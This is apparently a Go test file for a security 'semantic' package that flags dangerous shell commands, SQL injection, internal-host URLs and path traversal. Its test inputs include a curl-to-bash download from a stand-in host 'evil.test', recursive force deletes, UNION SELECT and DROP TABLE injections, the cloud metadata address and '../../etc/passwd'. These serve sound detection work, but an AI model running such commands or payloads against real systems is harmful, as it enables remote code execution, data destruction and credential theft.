package semantic_test

import (
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/failcore/runtime/runtime/semantic"
)

func TestTokenizeShellSplitsFlagsAndArgs(t *testing.T) {
	ast := semantic.TokenizeShell(`rm -rf --force "my dir"`)
	require.Equal(t, "rm", ast.Program)
	require.Contains(t, ast.Flags, "-rf")
	require.Contains(t, ast.Flags, "--force")
	require.Contains(t, ast.Args, "my dir")
}

func TestTokenizeShellDetectsPipeRedirectBackground(t *testing.T) {
	ast := semantic.TokenizeShell("curl http://x | sh > out.log &")
	require.True(t, ast.HasPipe)
	require.True(t, ast.HasRedirect)
	require.True(t, ast.HasBackground)
}

func TestExtractDangerousFlagsRecursiveForceDelete(t *testing.T) {
	ast := semantic.TokenizeShell("rm -r -f /data")
	dangerous := semantic.ExtractDangerousFlags(ast)
	require.Contains(t, dangerous, "recursive_delete")
	require.Contains(t, dangerous, "force_delete")
}

func TestExtractDangerousFlagsDownloadAndExecute(t *testing.T) {
	ast := semantic.TokenizeShell("curl http://evil.test/x.sh | bash")
	require.Contains(t, semantic.ExtractDangerousFlags(ast), "download_and_execute")
}

func TestExtractSQLKeywordsDetectsUnionSelect(t *testing.T) {
	feat := semantic.ExtractSQLKeywords("1 UNION SELECT password FROM users")
	require.True(t, feat.HasUnion)
	require.Contains(t, feat.Keywords, "union")
	require.Contains(t, feat.Keywords, "select")
	require.True(t, semantic.IsInjectionLikely(feat))
}

func TestExtractSQLKeywordsStackedWithComment(t *testing.T) {
	feat := semantic.ExtractSQLKeywords("x; DROP TABLE users; -- comment")
	require.True(t, feat.HasStacked)
	require.True(t, feat.HasComments)
	require.True(t, semantic.IsInjectionLikely(feat))
}

func TestExtractSQLKeywordsBenignQueryNotInjection(t *testing.T) {
	feat := semantic.ExtractSQLKeywords("SELECT name FROM users WHERE id = 1")
	require.False(t, semantic.IsInjectionLikely(feat))
}

func TestParseURLFlagsInternalHost(t *testing.T) {
	norm := semantic.ParseURL("http://169.254.169.254/latest/meta-data/")
	require.True(t, norm.Valid)
	require.True(t, norm.IsInternal)
	require.Equal(t, "169.254.169.254", norm.Host)
}

func TestParseURLExternalHostNotInternal(t *testing.T) {
	norm := semantic.ParseURL("https://api.stripe.com/v1/charges")
	require.True(t, norm.Valid)
	require.False(t, norm.IsInternal)
}

func TestNormalizePathDetectsTraversal(t *testing.T) {
	norm := semantic.NormalizePath("../../etc/passwd")
	require.True(t, norm.HasTraversal)
	require.Equal(t, 2, norm.ParentCount)
}

func TestNormalizePathFlagsSensitiveAbsoluteTarget(t *testing.T) {
	norm := semantic.NormalizePath("/etc/passwd")
	require.True(t, norm.IsSensitive)
}

func TestParseJSONPayloadExtractsStringPaths(t *testing.T) {
	payload := semantic.ParseJSONPayload(`{"user": {"name": "alice"}, "tags": ["a", "b"]}`)
	require.True(t, payload.Valid)
	require.Len(t, payload.StringPaths, 3)
}

func TestParseJSONPayloadInvalidJSON(t *testing.T) {
	payload := semantic.ParseJSONPayload("not json")
	require.False(t, payload.Valid)
}
